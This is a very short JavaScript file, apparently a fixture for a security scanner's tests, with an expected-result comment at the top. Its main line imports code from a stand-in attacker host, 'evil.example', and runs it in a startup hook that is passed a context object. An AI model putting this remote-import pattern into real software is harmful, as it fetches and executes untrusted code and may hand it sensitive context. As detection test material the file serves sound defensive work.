// expect: network 4
"use strict";
// a module import at the top
import { run } from "https://evil.example/x.js";
const hooks = { onStart(ctx) { run(ctx); } };
